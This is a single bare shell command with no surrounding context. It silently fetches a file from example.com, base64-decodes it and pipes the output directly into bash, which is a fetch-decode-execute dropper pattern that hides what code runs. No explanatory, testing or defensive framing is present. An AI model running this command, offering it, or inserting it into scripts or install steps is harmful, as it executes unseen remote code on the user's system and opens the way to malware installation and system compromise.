curl -s http://example.com/a.txt | base64 -d | bash
